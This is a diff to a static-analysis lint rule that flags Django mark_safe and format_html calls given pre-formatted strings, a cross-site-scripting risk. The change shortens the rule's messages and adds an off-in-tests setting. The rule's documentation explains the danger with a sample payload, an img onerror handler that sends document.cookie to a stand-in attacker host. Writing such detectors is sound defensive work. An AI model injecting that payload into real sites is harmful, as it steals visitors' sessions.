@@ -3,7 +3,7 @@ import { defineRule } from '../../engine/rule';
 import type { Fix, Fixer } from '../../engine/fixer';
 import type { RuleContext } from '../../engine/rule';
 import type { CallSite } from '../../engine/sites';
-import type { Operation } from '../sql-injection/query-parts';
+import { HOW_BUILT } from '../sql-injection/query-parts';
 import { classifyHtml, describeValues, fStringTemplate, formatCallTemplate, type Template } from './html-values';
 import { spellImported } from './imports';
 import { MARK_SAFE_CALLS } from './mark-safe';
@@ -11,12 +11,6 @@ import { moduleOf } from './settings';
 
 const FORMAT_HTML = 'django.utils.html.format_html';
 
-const HOW: Record<Operation, string> = {
-  '%': 'with `%` formatting',
-  '+': 'by concatenation',
-  format: 'with `.format()`',
-  'f-string': 'with an f-string',
-};
 
 export default defineRule({
   meta: {
@@ -36,6 +30,7 @@ export default defineRule({
     alsoCovers: ['B308', 'S308'],
     fixable: true,
     fixApplicability: ['unsafe'],
+    offInTests: true,
     docs: {
       what: 'Finds `mark_safe(...)` / `SafeString(...)` whose argument is built with an f-string, `%`, `.format()` or `+` from values known only at run time (directly or through a variable assigned once), and `format_html(...)` whose format string is itself built that way — which defeats the escaping `format_html` exists for.',
       why: 'The formatted values are pasted into HTML that Django then trusts: a user name of `<img src=x onerror=fetch("//evil.example/"+document.cookie)>` runs script in every visitor\'s browser (cross-site scripting), stealing sessions or acting as the victim. `format_html("<b>{}</b>", name)` escapes each value (and leaves values that are already safe HTML alone); pre-formatting the string before handing it to `format_html` or `mark_safe` skips that.',
@@ -62,8 +57,8 @@ export default defineRule({
     const { built } = value;
     const through = argument.value.type === 'identifier' ? ` (\`${argument.value.text}\`)` : '';
     const message = isFormatHtml
-      ? `\`${call.callee.text}\` gets a format string${through} already built ${HOW[built.operation]} from ${describeValues(built)}, so those values are not escaped: a \`<script>\` in them runs in visitors' browsers (cross-site scripting). Put \`{}\` placeholders in a literal format string and pass the values as arguments: \`format_html("<b>{}</b>", value)\`.`
-      : `\`${call.callee.text}\` marks HTML${through} built ${HOW[built.operation]} from ${describeValues(built)} as safe, so those values are never escaped: a \`<script>\` in them runs in visitors' browsers (cross-site scripting). Use \`format_html("<b>{}</b>", value)\`, which escapes each value.`;
+      ? `\`${call.callee.text}\` gets a format string built from ${describeValues(built)}, unescaped (XSS); put \`{}\` in a literal.`
+      : `\`${call.callee.text}\` marks HTML built from ${describeValues(built)} as safe, unescaped (XSS); use \`format_html\`.`
     context.report(call.node, {
       message,
       fix: (fixer) => formatHtmlFix(call, argument.value, isFormatHtml, context, fixer),
